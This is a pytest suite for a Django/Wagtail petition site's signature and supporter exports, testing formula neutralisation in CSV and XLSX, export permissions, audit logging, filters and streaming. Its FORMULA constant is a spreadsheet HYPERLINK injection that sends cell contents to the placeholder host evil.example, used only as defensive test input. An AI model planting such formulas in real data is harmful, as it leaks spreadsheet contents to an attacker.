import csv
import io

import pytest
from django.db.models.query import QuerySet
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from supporters.exports import cell_safe
from supporters.models import Supporter

from .conftest import add_signature, staff_user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [[cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()]


@pytest.mark.parametrize("dangerous", [FORMULA, "+92 300 1234567", "-1+1", "@SUM(A1)"])
def test_cell_safe_neutralises_what_a_spreadsheet_would_run(dangerous):
    assert cell_safe(dangerous) == "'" + dangerous
    assert cell_safe("Ali Hazara") == "Ali Hazara"
    assert cell_safe("علی") == "علی"


def test_csv_export_cell_for_a_formula_name_is_neutralised(admin_client, petition):
    add_signature(petition, "evil@example.com", name=FORMULA, city="=1+1")
    add_signature(petition, "zahra@example.com", name="زہرا", language="ur")

    response = admin_client.get("/admin/signatures/export/?format=csv")

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(
        'attachment; filename="signatures-'
    )
    rows = csv_rows(response)
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert "'=1+1" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert "زہرا" in cells


def test_xlsx_export_cell_for_a_formula_name_is_neutralised(admin_client, petition):
    add_signature(petition, "evil@example.com", name=FORMULA)
    add_signature(petition, "zahra@example.com", name="زہرا", language="ur")

    response = admin_client.get("/admin/signatures/export/?format=xlsx")

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + FORMULA in values
    assert "زہرا" in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize(
    "url", ["/admin/signatures/export/", "/admin/supporters/export/"]
)
def test_user_without_the_export_permission_gets_no_export(client, petition, url):
    add_signature(petition, "ali@example.com")
    user = staff_user("petitions.view_signature", "supporters.view_supporter")
    client.force_login(user)

    listing = client.get("/admin/signatures/")
    response = client.get(url + "?format=csv")

    assert listing.status_code == 200
    assert "export/?format=csv" not in listing.content.decode()
    assert response.status_code == 302
    assert not response.has_header("Content-Disposition")
    assert "ali@example.com" not in response.content.decode()
    assert not ModelLogEntry.objects.filter(action="petitions.export").exists()


def test_export_is_recorded_in_wagtails_log_for_a_staff_member_allowed_to(
    client, petition
):
    add_signature(petition, "ali@example.com", language="ur")
    add_signature(petition, "zahra@example.com", language="haz")
    user = staff_user("petitions.view_signature", "supporters.export_personal_data")
    client.force_login(user)

    response = client.get(
        f"/admin/signatures/export/?format=xlsx&language=haz&petition={petition.pk}"
    )

    rows = xlsx_rows(response)
    assert len(rows) == 2
    assert "zahra@example.com" in rows[1]
    entry = ModelLogEntry.objects.get(action="petitions.export")
    assert entry.user == user
    assert entry.data["rows"] == 1
    assert entry.data["format"] == "xlsx"
    assert entry.data["filters"]["language"] == "haz"
    history = client.get("/admin/reports/site-history/")
    assert "Exported 1 row as XLSX" in history.content.decode()


def test_export_follows_the_lists_filters_and_search(admin_client, petition):
    add_signature(petition, "ali@example.com", language="ur")
    add_signature(petition, "zahra@spam.example", language="ur", state="suspect")
    add_signature(petition, "karim@example.com", language="en")

    response = admin_client.get(
        "/admin/signatures/export/?format=csv&language=ur&state=confirmed&q=example.com"
    )

    emails = {row[3] for row in csv_rows(response)[1:]}
    assert emails == {"ali@example.com"}


def test_export_reads_rows_in_chunks_and_streams_csv(
    admin_client, petition, monkeypatch
):
    for n in range(5):
        add_signature(petition, f"s{n}@example.com")
    chunk_sizes = []
    original = QuerySet.iterator

    def spy(self, chunk_size=None):
        chunk_sizes.append(chunk_size)
        return original(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)

    csv_response = admin_client.get("/admin/signatures/export/?format=csv")
    assert csv_response.streaming
    assert len(csv_rows(csv_response)) == 6
    xlsx_response = admin_client.get("/admin/signatures/export/?format=xlsx")
    assert len(xlsx_rows(xlsx_response)) == 6

    assert chunk_sizes == [2000, 2000]


def test_supporter_export_holds_only_subscribed_addresses_with_unsubscribe_links(
    admin_client, client
):
    for email, state, language in (
        ("ali@example.com", "subscribed", "ur"),
        ("zahra@example.com", "subscribed", "haz"),
        ("pending@example.com", "pending", "en"),
        ("gone@example.com", "unsubscribed", "en"),
    ):
        Supporter.objects.create(
            email=email,
            email_canonical=email,
            language=language,
            state=state,
            source="signup",
            consent_text="Email me about more actions",
        )

    rows = csv_rows(admin_client.get("/admin/supporters/export/?format=csv"))

    assert [row[1] for row in rows[1:]] == ["ali@example.com", "zahra@example.com"]
    link = rows[2][-1]
    assert "/haz/supporters/unsubscribe/" in link
    assert client.post(link).status_code == 200
    assert Supporter.objects.get(email="zahra@example.com").state == "unsubscribed"

    only_urdu = csv_rows(
        admin_client.get("/admin/supporters/export/?format=csv&language=ur")
    )
    assert [row[1] for row in only_urdu[1:]] == ["ali@example.com"]


def test_the_export_permission_can_be_given_to_a_group_in_the_admin(admin_client):
    response = admin_client.get("/admin/groups/new/")

    assert "Can export signatures and the supporter list" in response.content.decode()


@pytest.mark.parametrize(
    "url", ["/admin/signatures/export/", "/admin/supporters/export/"]
)
def test_a_nul_character_in_the_search_or_a_filter_exports_nothing_instead_of_failing(
    admin_client, petition, url
):
    add_signature(petition, "ali@example.com")

    response = admin_client.get(
        url, {"format": "csv", "q": "ali\x00", "language": "ur\x00", "x\x00": "\x00"}
    )

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    entry = ModelLogEntry.objects.get(action="petitions.export")
    assert "\x00" not in str(entry.data)
